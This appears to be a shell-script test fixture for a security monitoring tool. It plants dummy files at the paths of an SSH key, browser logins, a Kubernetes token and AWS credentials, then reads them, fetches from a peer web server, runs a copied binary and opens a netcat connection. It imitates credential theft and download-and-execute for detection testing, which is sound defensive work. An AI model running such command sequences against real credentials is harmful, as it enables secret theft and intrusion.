#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# prepare: mkdir -p /root/.ssh /root/.config/chromium/Default /run/secrets/kubernetes.io/serviceaccount /root/.aws
# prepare: for f in /root/.ssh/id_ed25519 /root/.ssh/id_ed25519.pub '/root/.config/chromium/Default/Login Data' /run/secrets/kubernetes.io/serviceaccount/token /root/.aws/credentials; do echo x > "$f"; done
# prepare: cp /bin/busybox /usr/bin/chromium && cp /bin/cat /usr/bin/app && cp /bin/cat /usr/bin/ssh-add
# prepare: mkdir -p /var/lib/kubelet/pods/1 && echo x > /var/lib/kubelet/pods/1/etc-hosts
# peer: cd /bin && busybox httpd -f -p 8080
ssh-add /root/.ssh/id_ed25519
cat /root/.ssh/id_ed25519.pub
/usr/bin/chromium cat '/root/.config/chromium/Default/Login Data'
/usr/bin/app /run/secrets/kubernetes.io/serviceaccount/token /root/.aws/credentials
sh -c 'curl -s http://8.8.8.8:8080/none | grep x'
cat /var/lib/kubelet/pods/1/etc-hosts
curl -s -o /srv/page http://8.8.8.8:8080/true
cp /bin/true /srv/true
/srv/true
busybox nc -w 1 192.0.2.2 22
kubectl --help > /dev/null
exit 0
